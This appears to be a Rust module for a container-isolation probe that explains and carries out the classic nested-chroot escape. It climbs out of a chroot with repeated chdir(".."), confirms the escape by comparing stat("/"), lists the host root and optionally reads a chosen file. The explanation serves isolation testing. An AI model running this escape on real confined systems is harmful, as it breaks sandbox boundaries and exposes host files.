//! Why `chroot` is not a jail: the nested-chroot escape.
//!
//! chroot(2) changes one thing: the directory that the kernel treats as `/`
//! when it resolves paths for this process. It does *not* change the current
//! directory, and the kernel only stops `..` at the root when the walk
//! actually passes through the root. So a process that can call chroot (it
//! has `CAP_SYS_CHROOT`) can do this:
//!
//! ```text
//! mkdir /.probe-escape-42
//! chroot /.probe-escape-42   # new root is below us; cwd stays at the old root
//! cd ..; cd ..; ...          # cwd is outside the root, so `..` never hits it
//! chroot .                   # now at the real `/`: make it our root again
//! cd /
//! ```
//!
//! and it is back at the host's real root. Docker and runc are not fooled by
//! this because they use `pivot_root` inside a new mount namespace and unmount
//! the old root: there is nothing above the container's `/` to climb into,
//! and `..` at the root of a mount namespace stays where it is. They also drop
//! `CAP_SYS_CHROOT` on request, after which chroot fails with EPERM.
//!
//! We decide whether the escape worked by comparing `stat("/")` (device and
//! inode) before and after, and show the names in `/` so a reader can see
//! the host's root directory listed from "inside".

use std::ffi::CString;
use std::fs;
use std::os::fd::{AsFd, OwnedFd};

use nix::errno::Errno;
use nix::fcntl::{open, OFlag};
use nix::sys::stat::{stat, Mode};
use nix::unistd::{chdir, chroot, getpid, mkdir, unlinkat, UnlinkatFlags};
use serde::Serialize;

/// How many times to climb. Any directory tree shallower than this is
/// escaped; the climb stops harmlessly at the real root (`/..` is `/`).
const CLIMB: usize = 256;

/// The identity of a directory: the device and inode `stat` reports.
#[derive(Debug, Serialize, Clone, Copy, PartialEq, Eq)]
pub struct DirId {
    pub dev: u64,
    pub ino: u64,
}

/// The file that `--read` asked for, read after the escape attempt.
#[derive(Debug, Serialize)]
pub struct ReadResult {
    pub path: String,
    pub content: Option<String>,
    pub error: Option<String>,
}

/// What `probe escape` prints.
#[derive(Debug, Serialize)]
pub struct Outcome {
    pub escaped: bool,
    pub root_before: DirId,
    pub root_after: DirId,
    pub root_entries: Vec<String>,
    pub read: Option<ReadResult>,
    /// Set when the attempt could not even start, e.g. chroot gave EPERM.
    pub error: Option<String>,
}

/// Runs the escape attempt and optionally reads `read` afterwards.
/// `Err` only for unexpected failures; "chroot is not permitted" is an
/// `Ok` outcome with `escaped: false`, because that is a way of not escaping.
pub fn attempt(read: Option<&str>) -> Result<Outcome, String> {
    let root_before = root_id()?;

    // Keep a handle on the directory that is `/` now. After the escape our
    // `/` is somewhere else and we do not know the path of the scratch
    // directory any more, but we can still remove it relative to this fd.
    let old_root = open(
        "/",
        OFlag::O_PATH | OFlag::O_DIRECTORY | OFlag::O_CLOEXEC,
        Mode::empty(),
    )
    .map_err(|e| format!("open / (O_PATH): {}", e.desc()))?;

    // The scratch directory to chroot into: must be below the current root.
    // Try the root itself first, then /tmp (for read-only root filesystems).
    let name = format!(".probe-escape-{}", getpid());
    let scratch = make_scratch(&name)?;

    let error = match climb_out(&scratch) {
        Ok(()) => None,
        Err(Errno::EPERM) => Some(format!("chroot: {}", Errno::EPERM.desc())),
        Err(e) => {
            remove_scratch(&old_root, &scratch);
            return Err(format!("chroot into {scratch}: {}", e.desc()));
        }
    };

    // Remove the scratch dir first so it does not show up in the listing
    // when the climb fails and we end up back at the original root.
    remove_scratch(&old_root, &scratch);
    let root_after = root_id()?;
    let root_entries = list_root()?;
    let read = read.map(read_file);

    Ok(Outcome {
        escaped: root_after != root_before,
        root_before,
        root_after,
        root_entries,
        read,
        error,
    })
}

/// The escape itself. Returns the errno of the first chroot so the caller
/// can tell "not permitted" apart from real trouble.
fn climb_out(scratch: &str) -> Result<(), Errno> {
    // Step 1: chroot into the scratch dir WITHOUT chdir into it. Our cwd is
    // still the old root, which is now *outside* our root directory.
    chroot(scratch)?;
    // Step 2: climb. The kernel stops `..` only when the walk passes through
    // our root, and our cwd is not below our root, so it never does: each
    // `..` goes one level up until the real `/`, where `..` is `/` itself.
    for _ in 0..CLIMB {
        chdir("..")?;
    }
    // Step 3: make the directory we climbed to (the real `/`) our root, and
    // go there. From now on `/` means the host's `/`.
    chroot(".")?;
    chdir("/")?;
    Ok(())
}

/// Creates the scratch directory and returns its path relative to the
/// original root (without the leading `/`, ready for unlinkat).
fn make_scratch(name: &str) -> Result<String, String> {
    let mut tried = Vec::new();
    for parent in ["", "tmp/"] {
        let relative = format!("{parent}{name}");
        let absolute = format!("/{relative}");
        match mkdir(absolute.as_str(), Mode::from_bits_truncate(0o700)) {
            Ok(()) => return Ok(relative),
            Err(e) => tried.push(format!("mkdir {absolute}: {}", e.desc())),
        }
    }
    Err(tried.join("; "))
}

/// Best effort: a leftover empty directory is not worth failing for.
fn remove_scratch(old_root: &OwnedFd, relative: &str) {
    let Ok(path) = CString::new(relative) else {
        return;
    };
    if let Err(e) = unlinkat(old_root.as_fd(), path.as_c_str(), UnlinkatFlags::RemoveDir) {
        eprintln!(
            "probe escape: warning: removing scratch directory {relative} (relative to the original root): {}",
            e.desc()
        );
    }
}

fn root_id() -> Result<DirId, String> {
    let st = stat("/").map_err(|e| format!("stat /: {}", e.desc()))?;
    Ok(DirId {
        dev: st.st_dev,
        ino: st.st_ino,
    })
}

fn list_root() -> Result<Vec<String>, String> {
    let entries = fs::read_dir("/").map_err(|e| format!("reading directory /: {e}"))?;
    let mut names = Vec::new();
    for entry in entries {
        let entry = entry.map_err(|e| format!("reading directory /: {e}"))?;
        names.push(entry.file_name().to_string_lossy().into_owned());
    }
    names.sort();
    Ok(names)
}

fn read_file(path: &str) -> ReadResult {
    match fs::read(path) {
        Ok(bytes) => ReadResult {
            path: path.to_string(),
            content: Some(String::from_utf8_lossy(&bytes).into_owned()),
            error: None,
        },
        Err(e) => ReadResult {
            path: path.to_string(),
            content: None,
            error: Some(format!("reading {path}: {e}")),
        },
    }
}
